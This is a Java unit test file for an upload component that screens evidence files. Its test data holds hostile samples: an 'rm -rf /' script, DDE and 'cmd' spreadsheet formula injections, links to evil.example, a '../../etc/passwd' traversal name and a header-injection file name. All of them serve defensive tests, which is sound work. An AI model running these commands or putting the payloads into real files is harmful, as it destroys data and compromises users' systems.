package vn.thidua.evidence.reception;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.support.StaticListableBeanFactory;
import vn.thidua.evidence.Samples;
import vn.thidua.workflow.Refusal;

class ReceptionTest {

  private final Reception reception =
      new Reception(
          new Detection(new OfficeFiles(Samples.SETTINGS)),
          new StaticListableBeanFactory().getBeanProvider(VirusScan.class),
          Samples.SETTINGS);

  @Test
  void five_kinds_are_taken_by_their_content_whatever_they_are_called() throws IOException {
    assertThat(typeOf(Samples.pdf(), "x.exe")).isEqualTo(FileType.PDF);
    assertThat(typeOf(Samples.docx(), "x")).isEqualTo(FileType.DOCX);
    assertThat(typeOf(Samples.xlsx("SUM(A1:A9)"), "x.zip")).isEqualTo(FileType.XLSX);
    assertThat(typeOf(Samples.jpeg(), "x.png")).isEqualTo(FileType.JPEG);
    assertThat(typeOf(Samples.png(), "x.html")).isEqualTo(FileType.PNG);
  }

  @Test
  void a_file_that_is_taken_is_measured_hashed_and_cleared_away_afterwards() throws IOException {
    Reception.Received received = take(Samples.pdf(), "Báo cáo.pdf");
    assertThat(received.size()).isEqualTo(Samples.pdf().length);
    assertThat(received.sha256())
        .isEqualTo(org.apache.commons.codec.digest.DigestUtils.sha256Hex(Samples.pdf()));
    assertThat(received.scanned()).isFalse();
    assertThat(received.place()).exists();
    received.close();
    assertThat(received.place()).doesNotExist();
  }

  @Test
  void a_program_a_web_page_a_script_and_an_archive_are_refused_whatever_they_are_called() {
    byte[] program = new byte[512];
    program[0] = 'M';
    program[1] = 'Z';
    assertThat(refusal(program, "bao-cao.pdf")).isEqualTo("evidence.typeNotTaken");
    assertThat(refusal(Samples.bytes("<!DOCTYPE html><script>alert(1)</script>"), "x.pdf"))
        .isEqualTo("evidence.typeNotTaken");
    assertThat(refusal(Samples.bytes("<svg xmlns='http://www.w3.org/2000/svg'/>"), "x.png"))
        .isEqualTo("evidence.typeNotTaken");
    assertThat(refusal(Samples.bytes("#!/bin/sh\nrm -rf /"), "x.pdf"))
        .isEqualTo("evidence.typeNotTaken");
    assertThat(refusal(Samples.bytes("a;b\n=1+1;2"), "x.xlsx")).isEqualTo("evidence.typeNotTaken");
    assertThat(refusal(Samples.zip(Map.of("a.txt", "a")), "x.docx"))
        .isEqualTo("evidence.typeNotTaken");
    assertThat(refusal(Samples.bytes("<html><!-- %PDF-1.7 -->"), "x.pdf"))
        .isEqualTo("evidence.typeNotTaken");
  }

  @Test
  void a_zip_bomb_is_refused_before_it_swells() {
    assertThat(Samples.zipBomb().length).isLessThan(200_000);
    assertThat(refusal(Samples.zipBomb(), "x.docx")).isEqualTo("evidence.zipBomb");
  }

  @Test
  void an_office_file_with_a_program_inside_or_a_macro_type_is_refused() {
    assertThat(refusal(Samples.xlsx(Map.of("xl/vbaProject.bin", "x")), "x.xlsx"))
        .isEqualTo("evidence.program");
    assertThat(
            refusal(
                Samples.office("spreadsheetml.sheet.macroEnabled.main+xml", Map.of()), "x.xlsx"))
        .isEqualTo("evidence.officeTypeNotTaken");
  }

  @Test
  void a_sheet_that_takes_its_data_from_elsewhere_is_refused() {
    assertThat(refusal(Samples.xlsx(Map.of("xl/externalLinks/externalLink1.xml", "<a/>")), "x"))
        .isEqualTo("evidence.outsideLink");
    String template =
        "<Relationships><Relationship Type='http://x/attachedTemplate' TargetMode='External'"
            + " Target='http://evil.example/x.dotm'/></Relationships>";
    assertThat(refusal(Samples.xlsx(Map.of("word/_rels/settings.xml.rels", template)), "x"))
        .isEqualTo("evidence.outsideLink");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "HYPERLINK(\"http://evil.example\",\"x\")",
        "webservice (\"http://evil.example\")",
        "cmd|' /C calc'!A0",
        "DDE(\"cmd\",\"/C calc\",\"x\")",
        "SUM(1,RTD(\"x\",,\"y\"))"
      })
  void a_formula_that_reaches_out_of_its_cell_is_refused_and_named(String formula) {
    Refusal refusal =
        catchThrowableOfType(
            Refusal.class, () -> take(Samples.xlsx(formula.replace("\"", "&quot;")), "x.xlsx"));
    assertThat(refusal.messageKey()).isEqualTo("evidence.formula");
    assertThat(refusal.arguments()[0].toString()).startsWith("=" + formula.substring(0, 3));
  }

  @ParameterizedTest
  @ValueSource(strings = {"SUM(A1:A9)", "IF(B2&gt;0,\"Đạt\",\"Chưa\")", "A1/B1*100"})
  void a_formula_that_only_reckons_is_taken(String formula) throws IOException {
    assertThat(typeOf(Samples.xlsx(formula), "x.xlsx")).isEqualTo(FileType.XLSX);
  }

  @Test
  void what_is_empty_broken_or_too_large_is_refused() {
    assertThat(refusal(new byte[0], "x.pdf")).isEqualTo("evidence.empty");
    byte[] cut = java.util.Arrays.copyOf(Samples.docx(), 60);
    assertThat(refusal(cut, "x.docx")).isIn("evidence.broken", "evidence.typeNotTaken");
    InputStream endless =
        new InputStream() {
          @Override
          public int read() {
            return 'x';
          }
        };
    assertThat(
            catchThrowableOfType(Refusal.class, () -> reception.take(endless, "x.pdf"))
                .messageKey())
        .isEqualTo("evidence.tooLarge");
  }

  @ParameterizedTest
  @CsvSource({
    "../../etc/passwd, passwd.pdf",
    "C:\\Users\\x\\Báo cáo.pdf, Báo cáo.pdf",
    "/tmp/a.PDF, a.PDF",
    "...hidden, hidden.pdf",
    "a\"b<c>.pdf, a_b_c_.pdf",
    "x.exe, x.exe.pdf"
  })
  void a_name_loses_its_path_and_gets_the_ending_of_its_content(String given, String kept) {
    assertThat(FileType.PDF.nameFor(given)).isEqualTo(kept);
  }

  @Test
  void a_name_without_anything_or_much_too_long_becomes_one_that_can_be_kept() {
    assertThat(FileType.PDF.nameFor("")).isEqualTo("pdf.pdf");
    assertThat(FileType.PDF.nameFor("a\r\nBcc: x\u202egpj.exe"))
        .doesNotContain("\r", "\n", "\u202e");
    assertThat(FileType.XLSX.nameFor("x".repeat(5_000) + ".xlsx"))
        .hasSizeLessThan(200)
        .endsWith(".xlsx");
    assertThat(FileType.JPEG.nameFor("a.jpeg")).isEqualTo("a.jpeg");
  }

  private FileType typeOf(byte[] content, String name) throws IOException {
    try (Reception.Received received = take(content, name)) {
      return received.type();
    }
  }

  private String refusal(byte[] content, String name) {
    Refusal refusal = catchThrowableOfType(Refusal.class, () -> take(content, name));
    assertThat(refusal).as(name).isNotNull();
    assertThat(refusal.field()).isEqualTo("file");
    return refusal.messageKey();
  }

  private Reception.Received take(byte[] content, String name) throws IOException {
    return reception.take(new ByteArrayInputStream(content), name);
  }
}
